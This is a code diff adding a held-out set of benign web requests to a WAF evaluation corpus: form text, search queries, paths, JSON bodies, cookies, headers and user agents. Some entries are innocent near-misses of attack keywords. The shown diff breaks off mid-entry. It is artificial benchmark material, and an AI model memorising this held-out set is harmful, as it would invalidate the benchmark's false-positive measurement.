@@ -4537,3 +4537,951 @@ def heldout6_benign() -> list[CorpusRequest]:
         HELDOUT6_BENIGN_UAS,
     )
     return out + _requests("held-out-6", HELDOUT6_BENIGN_REQUESTS)
+
+
+# -- held out, seventh set: written on 2026-11-27 BEFORE the sixth detection round --------------
+# Written from public attack-pattern knowledge and from what real sites receive (shop carts and
+# checkouts, search-as-you-type, analytics beacons, mobile app APIs, text in many scripts,
+# markdown and wiki edits, file-sharing metadata, clinic and bank forms with punctuation-heavy
+# free text, the headers real browsers and CDNs add), without reading or running the rules on it;
+# committed before any rule change. `benchmarks/waf_eval.py` totals it only when asked
+# (`--heldout7`), at the end of a round.
+
+HELDOUT7_BENIGN_TEXT: tuple[str, ...] = (
+    # healthcare forms: symptoms, doses and notes as patients and clinicians type them
+    "Took 2x 500mg paracetamol @ 8am; pain still 7/10 -- worse when lying down",
+    "Allergies: penicillin (rash), sulfa drugs -> hives; NO latex!!",
+    "BP 142/91 at home (Omron), usually < 130/85. Meds: ramipril 5 mg 1x/day",
+    "pt c/o SOB on exertion x 3/7, no chest pain; O2 sat 96% RA",
+    "Dose: 0.5 ml s.c. weekly (Wed) -- missed 1 dose on 12/11 due to travel",
+    "Family hx: father MI @ 52; mother T2DM; sister 'borderline' thyroid (TSH 4.9?)",
+    "Please refill: Levothyroxine 75mcg #90 + Atorvastatin 20mg #90 (CVS on 5th & Main)",
+    'Is it OK to take ibuprofen & naproxen together? Label says "do not combine"',
+    # finance forms: references, amounts, payees
+    "Ref: INV-2026/0451; PO#7781 -- 50% deposit, balance on delivery",
+    'Payee: O\'Connor & Sons Ltd. (acct ****4821), memo: "Q4 retainer"',
+    "Transfer £1,250.00 to savings; note: rent + bills (Nov/Dec)",
+    "Dispute: charged twice ($89.99 + $89.99) on 11/23 at AMZN Mktp US*2K4",
+    "Employer: Smith, Jones & Partners LLP; income ~€64k/yr (before tax)",
+    "IBAN DE89 3704 0044 0532 0130 00 / BIC COBADEFFXXX, ref 'Miete Dez.'",
+    "Reason for loan: consolidate 2 cards (APR 24.9% & 29.9%) -> one payment",
+    # shop: order notes, gift messages, reviews
+    "Gift msg: Happy 30th Sam!!! <3 love, Jo & the kids :) xx",
+    "Please leave parcel behind the blue bin (gate code #4512*) -- NOT with neighbour",
+    "5 stars -- fits true to size; 'wide fit' is a must if you've got bunions lol",
+    "Returned it: colour was 'navy' on screen but looked black in daylight. 2/5",
+    'Engraving: "Always & forever -- 12.06.2021"',
+    'Does the 2-pack (SKU 88-1043/B) include the 1/4" adapter or only 3/8"?',
+    # markdown and wiki edits
+    "## Setup\n\n1. Run `make install`\n2. Copy `.env.example` to `.env`\n3. Done!",
+    "| Plan | Price |\n|------|-------|\n| Pro | $12/mo |\n| Team | $40/mo |",
+    "See [the docs](https://docs.example.com/en/latest/) or ping @maria in #support.",
+    "> **Note:** this page is out of date since v3.2; see _Migration_ below.",
+    "{{Infobox person\n| name = Ada Lovelace\n| birth_date = {{birth date|1815|12|10}}\n}}",
+    "[[Category:19th-century mathematicians]] [[File:Ada_Lovelace.jpg|thumb|left|Ada, 1840]]",
+    "<ref>{{cite web |url=https://example.org/a?id=1&lang=en |title=Notes |access-date=2026-11-01}}</ref>",
+    "- [x] write tests\n- [ ] update CHANGELOG.md\n- [ ] tag v2.4.0",
+    "Footnote[^1] and ~~strikethrough~~ and ==highlight== are not in CommonMark.",
+    "```js\nconst total = items.reduce((a, b) => a + b.price, 0);\n```",
+    "<!-- TODO: add screenshot of settings page -->",
+    # i18n: many scripts and punctuation
+    "مرحبا، هل يمكنني تغيير عنوان الشحن بعد الدفع؟",
+    "שלום! האם יש משלוח חינם מעל 200 ₪?",
+    "สินค้าถึงแล้วค่ะ แต่กล่องบุบนิดหน่อย (ไม่เป็นไร)",
+    "Cho tôi hỏi: áo size M có còn màu đỏ không ạ?",
+    "배송은 보통 며칠 걸리나요? 제주도도 가능한가요?",
+    "क्या यह उत्पाद भारत में उपलब्ध है? कीमत ₹2,499 है?",
+    "Πότε θα έρθει η παραγγελία μου; Αριθμός #A-5521",
+    "Siparişim 3 gündür 'kargoda' görünüyor, ne zaman gelir?",
+    "Czy mogę zwrócić towar po 30 dniach? Paragon zgubiłem :(",
+    "「送料無料」の条件は？ 5,000円以上ですか？",
+    "Ça coûte 49,90 € TTC — livraison incluse ? Merci d'avance !",
+    "¿Tienen la talla 42½? ¡Gracias! 👟",
+    "Grüße aus Köln – die Jacke (Größe L) passt perfekt 👍",
+    "Я заказал 2 шт., пришла 1 — что делать?",
+    "我想把订单 #88231 的地址改成：上海市浦东新区（张江）",
+    # support and account free text
+    "My password has a ' and a \" in it and the app says invalid credentials",
+    "Can't log in since update 4.12.0 (Android 14, Pixel 7) -- error code E_AUTH_401",
+    "Pls cancel order #55120 AND #55121 (duplicate), refund to original card",
+    "Unsubscribe me from ALL emails; 'manage preferences' link gives 404",
+    "My username used to be john_doe--2019; can I get it back?",
+    "Address line 2: Flat 3/2, 14-16 St. Mary's Rd (rear entrance)",
+    # more clinic, bank and insurance free text
+    "Claim #CLM-77120: water damage (kitchen) -- plumber's invoice attached; est. $2,340 + tax",
+    "Reason for visit: 'popping' in L knee when climbing stairs; worse after 5k runs",
+    "Dietary needs: no nuts (anaphylaxis -- carries EpiPen), lactose-free, halal",
+    "Notes for pharmacist: patient is 6'1\", 210 lbs; eGFR 58 -> adjust dose?",
+    "Standing order: £75.00 monthly to 'Kids' savings' from 1st Jan; cancel old one (#SO-12)",
+    "Why was I charged a 3% FX fee on a € purchase? Card says 'no foreign fees'",
+    "Tax ID: 12-3456789; business type: LLC (S-corp election 2024); NAICS 541511",
+    "Emergency contact: Dana Lee (wife) -- (555) 010-4477 / dana.lee@example.com",
+    # more shop and support free text
+    "Size guide says 'runs small' -- I'm 34\"/86cm chest, M or L?",
+    'Can I combine code WELCOME10 with the 2-for-1 offer? Checkout says "not eligible"',
+    "Item arrived damaged (see photos) -- box was marked 'THIS WAY UP' but upside down :(",
+    "Is this compatible w/ iPhone 15 Pro Max + MagSafe? Listing says 'iPhone 15/15 Pro'",
+)
+
+HELDOUT7_BENIGN_QUERIES: tuple[str, ...] = (
+    # search-as-you-type: every keystroke, half-words included
+    "q=o%27&limit=8",
+    "q=o%27ne&limit=8",
+    "q=c%2B%2B%20&limit=8",
+    "q=select&limit=8&types=product,category",
+    "q=drop%20shi&limit=8",
+    "q=union%20ja&limit=8",
+    "q=%3C3%20mug&limit=8",
+    "q=50%25%20off&limit=8",
+    "q=script%20font&limit=8",
+    "q=1%2F4%22%20drill&limit=8",
+    "q=%22&limit=8",
+    "q=rock%20%26%20roll%20t-&limit=8",
+    "term=l%27or%C3%A9a&locale=fr_FR&session=7f3c",
+    "query=ben%20%26%20je&hitsPerPage=5&attributesToRetrieve=name,url",
+    # analytics beacons
+    "v=1&_v=j101&a=1234567&t=event&ec=video&ea=play&el=Intro%20%E2%80%93%20Part%201"
+    "&ev=0&cid=555.1700000000&tid=UA-12345-1&dl=https%3A%2F%2Fshop.example.com%2F",
+    "en=scroll&ep.percent_scrolled=90&_et=18204&tid=G-XYZ789&cid=99.1700000001",
+    "id=GTM-ABC123&l=dataLayer&cx=c&gtm=45He4b00",
+    "sentry_key=abc123def456&sentry_version=7&sentry_client=sentry.javascript.browser%2F7.91.0",
+    "ev=PageView&id=1234567890&rl=&if=false&ts=1700000000000&sw=390&sh=844&v=2.9.138",
+    # shop, cart and checkout query strings
+    "cart_token=Z2NwLWV1cm9wZS13ZXN0MTowMUhDOA&step=payment_method",
+    "coupon=SAVE-20%25&apply=1",
+    "variant=40012345678901&quantity=2&properties%5BGift%20note%5D=Happy%20B-day%21",
+    "shipping_rate=shopify-Standard%20(3-5%20days)-4.99&country=GB",
+    "sort_by=price-ascending&filter.v.price.gte=10&filter.p.m.custom.material=100%25%20cotton",
+    # mobile app APIs
+    "platform=ios&app_version=8.14.1%20(2031)&os=17.4.1&device=iPhone15%2C2&lang=en-GB",
+    "since=2026-11-20T00%3A00%3A00Z&page_token=eyJvZmZzZXQiOjUwfQ%3D%3D",
+    "fields=id%2Cname%2Cpicture.width(200).height(200)&access_token=EAAB1234",
+    # file sharing
+    "path=%2FShared%2FFinance%20%26%20Legal%2F2026%2FQ3%20(final).xlsx&dl=1",
+    "folder=%2FPhotos%2F2026-08%20Lisbon%20%F0%9F%87%B5%F0%9F%87%B9&sort=modified&order=desc",
+    "name=Meeting%20notes%20-%20%22Budget%22%20(draft%202).docx&conflict=rename",
+    # i18n and misc
+    "q=%D9%87%D8%A7%D8%AA%D9%81+%D8%B3%D8%A7%D9%85%D8%B3%D9%88%D9%86%D8%AC&lang=ar",
+    "q=%E0%B8%A3%E0%B8%AD%E0%B8%87%E0%B9%80%E0%B8%97%E0%B9%89%E0%B8%B2&lang=th",
+    "returnUrl=%2Fcheckout%3Fstep%3Dreview%26from%3Dcart",
+    "q=order%20by%20date&limit=8",
+    "q=java%20script%20for%20kids%20book&limit=8",
+    "q=%2Fetc%20shelf&limit=8",
+    "amount=1%2C250.00&currency=GBP&ref=RENT%20DEC%20%2F%20FLAT%203%2F2",
+    "icd10=E11.9%3BI10&dob=1987-03-09&provider=Dr.%20O%27Hara",
+    "waypoints=51.5072%2C-0.1276%7C48.8566%2C2.3522&mode=driving&avoid=tolls%7Cferries",
+)
+
+HELDOUT7_BENIGN_PATHS: tuple[str, ...] = (
+    "/cart.js",
+    "/checkout/cn/Z2NwLWV1cm9wZS13ZXN0MTowMUhD/information",
+    "/api/storefront/2024-10/graphql.json",
+    "/products/mens-1-4-zip-fleece-%E2%80%94-navy.json",
+    "/wiki/Special:RecentChanges",
+    "/wiki/Talk:SQL_injection",
+    "/w/index.php",
+    "/wiki/C%2B%2B",
+    "/s/AbC-123_xyz/Q3%20report%20(final).pdf",
+    "/drive/folders/1a2B3c4D5e6F7g8H9i0J",
+    "/api/v2/files/8812/versions/3/content",
+    "/patient-portal/messages/new",
+    "/fr/c/v%C3%AAtements-homme/pulls-%26-gilets",
+    "/ko/%EC%83%81%ED%92%88/%EC%8B%A0%EB%B0%9C",
+    "/ar/%D8%A7%D9%84%D9%85%D9%86%D8%AA%D8%AC%D8%A7%D8%AA",
+    "/cdn-cgi/image/width=640,quality=75,format=auto/images/hero.jpg",
+    "/_next/data/build-8f3a2c/en/products/red-shoe.json",
+    "/_next/image?url=%2Fimages%2Fshoe.png&w=1080&q=75",
+    "/apple-touch-icon-180x180.png",
+    "/service-worker.js",
+)
+
+HELDOUT7_BENIGN_JSON: tuple[object, ...] = (
+    # carts and checkouts
+    {
+        "items": [
+            {
+                "id": 40012345678901,
+                "quantity": 1,
+                "properties": {"Engraving": "J & M -- 14.02.2020", "_gift": "yes"},
+            }
+        ]
+    },
+    {
+        "email": "o'brien.sean+shop@example.ie",
+        "shipping_address": {
+            "first_name": "Seán",
+            "last_name": "O'Brien",
+            "address1": "Apt. 4B, 12-14 St. Stephen's Green",
+            "address2": "c/o Reception (2nd floor)",
+            "city": "Dublin 2",
+            "zip": "D02 X285",
+            "phone": "+353 (0)1 234-5678",
+        },
+        "note": "Ring bell #3; if no answer leave w/ concierge",
+    },
+    {
+        "payment_method": {"type": "card", "card": {"brand": "visa", "last4": "4242"}},
+        "billing_details": {"name": "Zoë Smith-Jones", "address": {"line1": "1 Main St; Unit 5"}},
+        "amount": 12999,
+        "currency": "usd",
+    },
+    {"discount_code": "BLACKFRIDAY-30%", "cart_id": "c_8f3a2c", "replace": True},
+    {
+        "line_items": [{"sku": "TSHIRT-M-RED", "qty": 2}, {"sku": "MUG-11OZ", "qty": 1}],
+        "gift_message": 'To Dad -- "World\'s okayest golfer" ;) From all of us <3',
+    },
+    # analytics beacons (navigator.sendBeacon bodies)
+    {
+        "client_id": "1234567890.1700000000",
+        "events": [
+            {
+                "name": "view_item",
+                "params": {
+                    "item_name": "Men's 1/4-Zip Fleece — Navy",
+                    "page_location": "https://shop.example.com/products/fleece?variant=1&utm_source=ig",
+                },
+            }
+        ],
+    },
+    {
+        "type": "track",
+        "event": "Order Completed",
+        "properties": {"order_id": "50314b8e", "total": 27.5, "coupon": "hasbros", "products": []},
+        "context": {"userAgent": CHROME, "page": {"referrer": "https://www.google.com/"}},
+    },
+    {
+        "name": "INP",
+        "value": 184,
+        "id": "v4-1700000000-123",
+        "attribution": {"eventTarget": "button#add-to-cart.btn.btn--primary"},
+    },
+    {
+        "csp-report": {
+            "document-uri": "https://shop.example.com/checkout",
+            "violated-directive": "script-src-elem",
+            "blocked-uri": "https://www.googletagmanager.com/gtag/js?id=G-XYZ",
+            "source-file": "https://shop.example.com/checkout",
+        }
+    },
+    # mobile app APIs
+    {
+        "device": {
+            "platform": "android",
+            "model": "SM-S918B",
+            "os": "14",
+            "push_token": "fcm:APA91bH-xyz_123",
+        },
+        "app": {"version": "8.14.1", "build": 2031},
+        "locale": "pt_BR",
+    },
+    {"query": "pizza near me", "lat": 51.5072, "lng": -0.1276, "radius_m": 1500, "open_now": True},
+    {"message": {"text": "omw, 5 mins -- traffic on the A40 :/", "client_msg_id": "c3b1-77"}},
+    # markdown / wiki / CMS content
+    {
+        "title": "How to reset your router",
+        "body_markdown": "1. Unplug it\n2. Wait 30s\n3. Hold **RESET** for 10s\n\n"
+        "If the light is still red, visit <https://support.example.com/router>.",
+        "tags": ["networking", "how-to"],
+    },
+    {
+        "page": "Release notes/4.2",
+        "summary": "fix typo; add <code>--dry-run</code> flag",
+        "text": "== Changes ==\n* New: <code>--dry-run</code>\n* Fixed: crash when path contains ''quotes''",
+    },
+    # file-sharing metadata
+    {
+        "name": "Invoice #2026-0451 (signed).pdf",
+        "parent": "/Clients/O'Neil & Co/2026",
+        "description": "Signed copy -- supersedes v1 (wrong VAT %)",
+        "shared_with": ["ana@example.com", "team-finance@example.com"],
+    },
+    {"path": "/Photos/2026/Lisbon/IMG_2041 (1).HEIC", "mode": "add", "autorename": True},
+    {
+        "file_id": "f_8812",
+        "comment": "p.3 -- the table's 'Total' row should be SUM(B2:B9), not B2+B9",
+        "mentions": ["@ana"],
+    },
+    {
+        "link_settings": {
+            "audience": "password",
+            "expires": "2026-12-31T23:59:59Z",
+            "allow_download": False,
+        }
+    },
+    # healthcare / finance JSON forms
+    {
+        "patient": {"name": "Mary-Kate O'Neill", "dob": "1987-03-09"},
+        "reason": "Follow-up: HbA1c 7.8% (was 8.4%); metformin 500mg 2x/d -> 1000mg?",
+        "symptoms": ["fatigue", "thirst (>3L/day)"],
+    },
+    {
+        "claim": {"type": "dental", "codes": ["D0120", "D1110"], "amount": 185.0},
+        "notes": "2 x-rays (bitewing); patient paid $40 co-pay @ front desk",
+    },
+    {
+        "beneficiary": "Müller & Söhne GmbH",
+        "amount": "1.250,00",
+        "reference": "RE 2026/11-034; Kd.-Nr. 4471",
+        "execution_date": "2026-12-01",
+    },
+)
+
+HELDOUT7_BENIGN_COOKIES: tuple[str, ...] = (
+    "cart=c1-8f3a2c1b7e9d; cart_ts=1700000000; cart_currency=GBP; "
+    "_shopify_y=9f8e7d6c-5b4a; _shopify_s=1a2b3c4d-5e6f",
+    "__cf_bm=Aw1.2x3_Y4z-1700000000-0-AXYZ+abc/def=; cf_clearance=abc123.def456-1700000000-0-150",
+    "AWSALB=YWJjZGVm+ZGVmZw==; AWSALBCORS=YWJjZGVm+ZGVmZw==",
+    "_hjSessionUser_123456=eyJpZCI6IjEyMyIsImNyZWF0ZWQiOjE3MDAwMDAwMDB9; _hjAbsoluteSessionInProgress=0",
+    "consent=%7B%22necessary%22%3Atrue%2C%22analytics%22%3Afalse%2C%22ads%22%3Afalse%7D",
+    "locale=ar-EG; dir=rtl; currency=EGP",
+    "recently_viewed=SKU-1%7CSKU-22%7CSKU-333; compare=",
+    "intercom-session-abcd1234=ZmFrZS1zZXNzaW9u--1a2b3c; intercom-device-id-abcd1234=0f9e8d7c",
+)
+
+HELDOUT7_BENIGN_REFERERS: tuple[str, ...] = (
+    "https://www.google.com/",
+    "https://l.facebook.com/l.php?u=https%3A%2F%2Fshop.example.com%2Fp%2F1&h=AT0abc",
+    "https://checkout.stripe.com/c/pay/cs_live_a1B2c3#fidkdWxOYHwnPyd1blppbHNgWjA0",
+    "https://duckduckgo.com/?q=%22drop+shipping%22+vs+%22dropshipping%22&ia=web",
+    "https://en.wikipedia.org/w/index.php?title=SQL_injection&action=edit&section=3",
+    "https://mail.google.com/",
+    "https://www.baidu.com/link?url=abc_DEF-123&wd=&eqid=f00d",
+)
+
+HELDOUT7_BENIGN_UAS: tuple[str, ...] = (
+    "ShopApp/8.14.1 (iPhone; iOS 17.4.1; Scale/3.00)",
+    "MyBank/5.2.0 (Android 14; SM-S918B; Build/UP1A.231005.007)",
+    "Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/AP1A.240305.019; wv) AppleWebKit/537.36 "
+    "(KHTML, like Gecko) Version/4.0 Chrome/124.0.6367.82 Mobile Safari/537.36",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
+    "Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/455.0.0.37.106;FBBV/570041234;FBDV/iPhone15,2]",
+    "Mozilla/5.0 (SMART-TV; Linux; Tizen 7.0) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "SamsungBrowser/5.0 Chrome/94.0.4606.31 TV Safari/537.36",
+    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/124.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+    "Version/17.4 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
+    "Pinterestbot/1.0 (+http://www.pinterest.com/bot.html)",
+    "Datadog Agent/7.50.0",
+    "Amazon CloudFront",
+    "python-requests/2.31.0",
+)
+
+_H7_BOUNDARY = "----WebKitFormBoundaryH7q2XzLm9AbC"
+_H7_MULTIPART = {"Content-Type": f"multipart/form-data; boundary={_H7_BOUNDARY}"}
+_H7_BEACON = {"Content-Type": "text/plain;charset=UTF-8", "Origin": "https://shop.example.com"}
+_H7_CDN = {
+    "CF-Connecting-IP": "198.51.100.23",
+    "CF-IPCountry": "GB",
+    "CF-Ray": "8a1b2c3d4e5f6a7b-LHR",
+    "CF-Visitor": '{"scheme":"https"}',
+    "X-Forwarded-For": "198.51.100.23, 172.70.85.12",
+    "X-Forwarded-Proto": "https",
+    "CDN-Loop": "cloudflare",
+}
+_H7_CHROME = {
+    "sec-ch-ua": '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"',
+    "sec-ch-ua-mobile": "?0",
+    "sec-ch-ua-platform": '"Windows"',
+    "Sec-Fetch-Site": "same-origin",
+    "Sec-Fetch-Mode": "cors",
+    "Sec-Fetch-Dest": "empty",
+    "Priority": "u=1, i",
+}
+
+
+def _h7_multipart(*parts: tuple[str, str | None, str | None, bytes]) -> bytes:
+    """A multipart body of (name, filename, content type, content) parts, held-out 7's boundary."""
+    return _multipart(_H7_BOUNDARY, *parts)
+
+
+HELDOUT7_BENIGN_REQUESTS: tuple[tuple[str, str, str, dict[str, str], bytes | None], ...] = (
+    # (method, path, query, extra headers, body): carts, checkouts, beacons, mobile APIs, wikis,
+    # file sharing, clinic and bank forms, and the headers browsers and CDNs add
+    (
+        "POST",
+        "/cart/add.js",
+        "",
+        {**_JSONCT, **_H7_CHROME, "X-Requested-With": "XMLHttpRequest"},
+        b'{"items":[{"id":40012345678901,"quantity":1,"properties":{"Monogram":"A.B.C.",'
+        b'"Font":"Script (cursive)"}}]}',
+    ),
+    (
+        "POST",
+        "/cart/update",
+        "",
+        _FORM,
+        b"updates%5B40012345678901%5D=2&updates%5B40012345678902%5D=0&note=Gift+wrap+please+%3A%29"
+        b"&attributes%5BDelivery+date%5D=2026-12-20&checkout=Check+out",
+    ),
+    (
+        "POST",
+        "/checkout/shipping",
+        "",
+        _FORM,
+        b"checkout%5Bshipping_address%5D%5Bfirst_name%5D=Ren%C3%A9e&checkout%5Bshipping_address%5D"
+        b"%5Blast_name%5D=D%27Souza&checkout%5Bshipping_address%5D%5Baddress1%5D=Flat+2%2F1%2C+"
+        b"22+O%27Connell+St.&checkout%5Bshipping_address%5D%5Bcity%5D=Limerick&checkout%5Bemail"
+        b"%5D=renee%2Bshop%40example.ie&checkout%5Bbuyer_accepts_marketing%5D=0",
+    ),
+    (
+        "POST",
+        "/api/checkout/sessions",
+        "",
+        {**_JSONCT, **_H7_CHROME, "Idempotency-Key": "8e03978e-40d5-43e8-bc93-6894a57f9324"},
+        b'{"mode":"payment","success_url":"https://shop.example.com/thanks?session_id='
+        b'{CHECKOUT_SESSION_ID}","cancel_url":"https://shop.example.com/cart",'
+        b'"line_items":[{"price":"price_1OqX","quantity":1}]}',
+    ),
+    (
+        "POST",
+        "/g/collect",
+        "v=2&tid=G-XYZ789&gtm=45je4b00&_p=1700000000&cid=99.1700000001&ul=en-gb&sr=1440x900"
+        "&en=purchase&ep.transaction_id=T-55120&epn.value=129.99&ep.currency=GBP",
+        {"Content-Type": "text/plain;charset=UTF-8", "Sec-Fetch-Mode": "no-cors"},
+        b"en=add_to_cart&_et=1204&pr1=idSKU-1~nmMen%27s%201%2F4-Zip%20Fleece~pr59.00~qt1",
+    ),
+    (
+        "POST",
+        "/api/rum",
+        "",
+        _H7_BEACON,
+        b'{"type":"web-vitals","url":"https://shop.example.com/search?q=o%27neill+jacket",'
+        b'"metrics":{"LCP":2104,"CLS":0.02,"INP":96},"nav":"back-forward"}',
+    ),
+    (
+        "POST",
+        "/api/logs",
+        "",
+        _H7_BEACON,
+        b'{"level":"error","msg":"TypeError: Cannot read properties of undefined (reading '
+        b'\'price\')","stack":"at addToCart (https://shop.example.com/static/js/app.8f3a.js:1:'
+        b'20412)\\n    at HTMLButtonElement.<anonymous> (app.8f3a.js:1:19877)"}',
+    ),
+    (
+        "POST",
+        "/api/1234567/envelope/",
+        "sentry_key=abc123def456&sentry_version=7",
+        {"Content-Type": "text/plain;charset=UTF-8"},
+        b'{"event_id":"9ec79c33ec9942ab8353589fcb2e04dc","sent_at":"2026-11-27T21:00:00Z"}\n'
+        b'{"type":"event"}\n'
+        b'{"exception":{"values":[{"type":"ReferenceError","value":"gtag is not defined"}]},'
+        b'"request":{"url":"https://shop.example.com/checkout?step=2"}}',
+    ),
+    (
+        "POST",
+        "/api/mobile/v3/auth/refresh",
+        "",
+        {
+            **_JSONCT,
+            "User-Agent": "ShopApp/8.14.1 (iPhone; iOS 17.4.1; Scale/3.00)",
+            "Authorization": "Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ.eyJzdWIiOiI0MiJ9.c2lnbmF0dXJl",
+            "X-App-Version": "8.14.1",
+            "X-Device-Id": "A1B2C3D4-E5F6-7890-ABCD-EF1234567890",
+            "Accept-Language": "en-GB;q=1.0, cy-GB;q=0.9",
+        },
+        b'{"refresh_token":"def50200a1b2c3d4e5f6/+==","grant_type":"refresh_token"}',
+    ),
+    (
+        "GET",
+        "/api/mobile/v3/feed",
+        "cursor=MjAyNi0xMS0yN1QyMTowMDowMFo%3D&limit=20",
+        {
+            "User-Agent": "okhttp/4.12.0",
+            "Accept": "application/json",
+            "X-App-Version": "8.14.1 (2031)",
+            "X-Timezone": "America/Sao_Paulo",
+            "If-None-Match": 'W/"5e-1700000000"',
+        },
+        None,
+    ),
+    (
+        "POST",
+        "/wiki/index.php",
+        "title=Help:Tables&action=submit",
+        _FORM,
+        b"wpTextbox1=%7B%7C+class%3D%22wikitable%22%0A%7C-%0A%21+Header+1+%21%21+Header+2%0A%7C-"
+        b"%0A%7C+cell+%7C%7C+cell%0A%7C%7D&wpSummary=%2F*+Examples+*%2F+add+table&wpSave=Save"
+        b"+changes&wpEditToken=d41d8cd98f00b204e9800998ecf8427e%2B%5C",
+    ),
+    (
+        "POST",
+        "/wiki/index.php",
+        "title=Main_Page&action=submit",
+        _FORM,
+        b"wpTextbox1=%27%27%27Welcome%27%27%27+to+the+wiki%21+See+%5B%5BHelp%3AContents%5D%5D"
+        b"+and+%7B%7BCurrent+events%7D%7D.&wpSummary=tidy&wpMinoredit=1",
+    ),
+    (
+        "PUT",
+        "/api/docs/pages/8812",
+        "",
+        _JSONCT,
+        json.dumps(
+            {
+                "title": "Onboarding checklist",
+                "markdown": "### Week 1\n- [ ] laptop & accounts\n- [ ] read *Handbook* "
+                '(esp. §4 "Expenses")\n\n> Ask @it-help if `ssh` keys fail.',
+            }
+        ).encode(),
+    ),
+    (
+        "POST",
+        "/api/files/upload",
+        "",
+        _H7_MULTIPART,
+        _h7_multipart(
+            ("path", None, None, b"/Shared/Finance & Legal/2026"),
+            (
+                "file",
+                "Q3 report (final) v2 - O'Neil.xlsx",
+                "application/octet-stream",
+                b"PK\x03\x04",
+            ),
+        ),
+    ),
+    (
+        "PATCH",
+        "/api/files/8812",
+        "",
+        {"Content-Type": "application/merge-patch+json"},
+        b'{"name":"Contract -- signed (2026-11-27).pdf","tags":["legal","Q4"],'
+        b'"description":"Final; see clause 4(b)(ii) & annex \\"C\\""}',
+    ),
+    (
+        "POST",
+        "/patient-portal/messages",
+        "",
+        _FORM,
+        b"subject=Re%3A+blood+test+results&body=Hi+Dr.+Patel%2C+my+LDL+was+3.9+mmol%2FL+%28%3E3.0"
+        b"%3F%29+-+should+I+increase+atorvastatin+to+40mg%3F+Thanks%2C+A.+O%27Hara&urgent=0",
+    ),
+    (
+        "POST",
+        "/intake/form",
+        "",
+        _H7_MULTIPART,
+        _h7_multipart(
+            (
+                "medications",
+                None,
+                None,
+                b"Metformin 500mg 2x/d; Lisinopril 10mg 1x/d; Vitamin D 1000 IU (OTC)",
+            ),
+            (
+                "history",
+                None,
+                None,
+                b"Appendectomy (2009); C-section x2; smoker 10 pack-years, "
+                b"quit 2018 -- 'social' drinker <7 units/wk",
+            ),
+            ("insurance_card", "card front.jpg", "image/jpeg", b"\xff\xd8\xff\xe0"),
+        ),
+    ),
+    (
+        "POST",
+        "/banking/payments",
+        "",
+        {**_FORM, **_H7_CDN},
+        b"payee=Smith+%26+Wesson+Lettings+Ltd&sort_code=20-00-00&account=55779911&amount=1%2C250.00"
+        b"&reference=RENT+DEC+%2F+FLAT+3%2F2&date=2026-12-01",
+    ),
+    (
+        "POST",
+        "/api/kyc/address",
+        "",
+        {**_JSONCT, **_H7_CDN},
+        b'{"line1":"Rua Dr. Jo\\u00e3o de Barros, 45 - 3\\u00ba Esq.","city":"Lisboa",'
+        b'"postal_code":"1300-300","proof":"utility bill (EDP) -- Oct/2026"}',
+    ),
+    (
+        "GET",
+        "/",
+        "",
+        {
+            **_H7_CDN,
+            "Via": "1.1 varnish, 1.1 abc123.cloudfront.net (CloudFront)",
+            "X-Amz-Cf-Id": "Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0Uv==",
+            "CloudFront-Viewer-Country": "GB",
+            "traceparent": "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
+            "tracestate": "congo=t61rcWkgMzE,rojo=00f067aa0ba902b7",
+            "baggage": "userId=alice,serverNode=DF%2028,isProduction=false",
+        },
+        None,
+    ),
+    (
+        "GET",
+        "/products/fleece",
+        "",
+        {
+            **_H7_CHROME,
+            "Sec-Fetch-Mode": "navigate",
+            "Sec-Fetch-Dest": "document",
+            "Sec-Fetch-User": "?1",
+            "Upgrade-Insecure-Requests": "1",
+            "Cache-Control": "max-age=0",
+            "If-Modified-Since": "Fri, 27 Nov 2026 20:00:00 GMT",
+            "X-Forwarded-For": "203.0.113.9, 2001:db8::1, 10.0.0.7",
+            "Forwarded": 'for=203.0.113.9;proto=https, for="[2001:db8::1]"',
+            "True-Client-IP": "203.0.113.9",
+            "Fastly-Client-IP": "203.0.113.9",
+            "Akamai-Origin-Hop": "2",
+        },
+        None,
+    ),
+    (
+        "GET",
+        "/api/search/suggest",
+        "q=women%27s%20ru&limit=6",
+        {
+            **_H7_CHROME,
+            "Accept": "application/json, text/plain, */*",
+            "X-Requested-With": "XMLHttpRequest",
+            "X-CSRF-Token": "J8nH+k2/aQ==",
+            "Referer": "https://shop.example.com/search?q=women%27s+r",
+        },
+        None,
+    ),
+    (
+        "POST",
+        "/1/indexes/*/queries",
+        "x-algolia-agent=Algolia%20for%20JavaScript%20(4.22.1)%3B%20Browser",
+        {**_H7_BEACON, "x-algolia-application-id": "ABC123XYZ", "x-algolia-api-key": "0f9e8d7c"},
+        b'{"requests":[{"indexName":"products","params":"query=men%27s%20boo&hitsPerPage=6'
+        b'&facetFilters=%5B%5B%22brand%3ADr.%20Martens%22%5D%5D"}]}',
+    ),
+    (
+        "POST",
+        "/fhir/Observation",
+        "",
+        {"Content-Type": "application/fhir+json; fhirVersion=4.0"},
+        b'{"resourceType":"Observation","status":"final","code":{"coding":[{"system":'
+        b'"http://loinc.org","code":"8480-6","display":"Systolic blood pressure"}]},'
+        b'"valueQuantity":{"value":142,"unit":"mm[Hg]"},"note":[{"text":"Taken after 5 min rest; '
+        b"pt anxious ('white coat')\"}]}",
+    ),
+    (
+        "POST",
+        "/banking/import",
+        "",
+        _H7_MULTIPART,
+        _h7_multipart(
+            ("format", None, None, b"csv"),
+            (
+                "statement",
+                "statement_2026-11.csv",
+                "text/csv",
+                b'Date,Description,Amount\n2026-11-03,"TESCO STORES 2231, LONDON",-23.40\n'
+                b"2026-11-05,\"O'NEILL'S BAR & GRILL\",-41.00\n",
+            ),
+        ),
+    ),
+    (
+        "POST",
+        "/api/mobile/v3/push/register",
